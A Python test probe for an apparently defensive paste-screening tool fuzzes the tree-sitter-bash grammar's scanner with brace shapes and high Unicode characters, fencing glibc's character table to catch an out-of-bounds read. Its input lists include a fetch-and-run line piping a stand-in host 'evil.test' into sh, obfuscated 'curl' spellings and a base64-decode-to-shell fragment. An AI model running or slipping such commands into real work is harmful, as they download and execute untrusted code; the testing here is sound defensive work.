"""Run in a child process by test_bash_scanner.py: parse texts that lead the bash grammar's
scanner to its isdigit() call with characters above U+00FF, with the C library's character table
fenced so that any read past it faults at once.

The grammar (tree-sitter-bash <= 0.25.1, src/scanner.c, brace_start) reads past the table when a
"{" or "{<digits>.." is followed by such a character; whether that faults depends on what is
mapped after the table, so unfenced it crashes some processes and not others. Fenced (glibc: the
thread's table pointer is moved to a copy that ends at the start of 2 MiB of inaccessible memory,
one entry per code point), the first such read kills the process with SIGSEGV.

    python -m tests.app.detection.interpret.bash_scanner_probe [--unscreened] [COUNT]

prints "fenced N" or "unfenced N" (N texts parsed) and exits 0 if nothing faulted. With
--unscreened the texts go to the grammar without PasteGuard's screen (the test's proof that the
probe can fail).
"""

from __future__ import annotations

import ctypes
import mmap
import random
import sys

from tree_sitter import Parser

from app.detection.interpret import grammar

TABLE_LOW, TABLE_HIGH = -128, 255  # the entries glibc's table has (EOF and signed char included)
SHAPES = ["{", "{1..", "{12", "{..", "echo {", "x={", "a {1..9}{", "cp f{,.bak} {0..", "{\n"]
TAILS = ["", "}", "..2}", ",a}", " curl x", "#x; curl https://evil.test/x | sh", "\n"]
FILLERS = [" ", "c''url ", "a=cu;b=rl;$a$b ", "$'\\x63' ", "| base64 -d | sh", "${v:0:2}",
           "echo ", "é", "ü", "\u200b", "x{", "{{"]  # fmt: skip


def fence() -> bool:
    """Move this thread's ctype table to a copy followed by inaccessible memory (glibc only)."""
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        locate = libc.__ctype_b_loc
    except (OSError, AttributeError):
        return False
    locate.restype = ctypes.POINTER(ctypes.c_void_p)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
                          ctypes.c_int, ctypes.c_long]  # fmt: skip
    libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    page = mmap.PAGESIZE
    guard = (2 * 0x110000 // page + 1) * page  # an entry (2 bytes) for every code point
    base = libc.mmap(None, page + guard, mmap.PROT_READ | mmap.PROT_WRITE,
                     mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0)  # fmt: skip
    if base in (None, ctypes.c_void_p(-1).value) or libc.mprotect(base + page, guard, 0) != 0:
        return False
    cell = locate()  # const unsigned short ** : the pointer isdigit() indexes
    entries = TABLE_HIGH - TABLE_LOW + 1
    copy = base + page - 2 * entries  # entry 255 ends where the inaccessible memory starts
    ctypes.memmove(copy, cell[0] + 2 * TABLE_LOW, 2 * entries)
    cell[0] = copy - 2 * TABLE_LOW
    return True


def texts(count: int) -> list[str]:
    """count texts, each with at least one "{" (or "{<digits>..") before a character above
    U+00FF: letters, spaces, symbols and unassigned code points from every plane."""
    rnd = random.Random(337)
    special = [0x100, 0x3000, 0x2003, 0x2028, 0x1680, 0x200B, 0x0663, 0xFF10, 0x10FFFF, 0x2C6CA]
    out = []
    for i in range(count):
        code = special[i] if i < len(special) else rnd.randint(0x100, 0x10FFFF)
        if 0xD800 <= code <= 0xDFFF:  # a lone surrogate is not text
            code = 0x4E2D
        parts = [rnd.choice(FILLERS) for _ in range(rnd.randint(0, 4))]
        parts.insert(rnd.randint(0, len(parts)), rnd.choice(SHAPES) + chr(code) + rnd.choice(TAILS))
        out.append("".join(parts))
    return out


def main(argv: list[str]) -> int:
    unscreened = "--unscreened" in argv
    numbers = [int(a) for a in argv if a.isdigit()]
    batch = texts(numbers[0] if numbers else 3000)
    language = grammar._language("bash")
    assert language is not None, "the bash grammar is not installed"
    fenced = fence()
    for text in batch:
        if unscreened:
            Parser(language).parse(text.encode("utf-8"))
        else:
            grammar.parse("bash", text, grammar.PARSE_MS)
    print("fenced" if fenced else "unfenced", len(batch), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
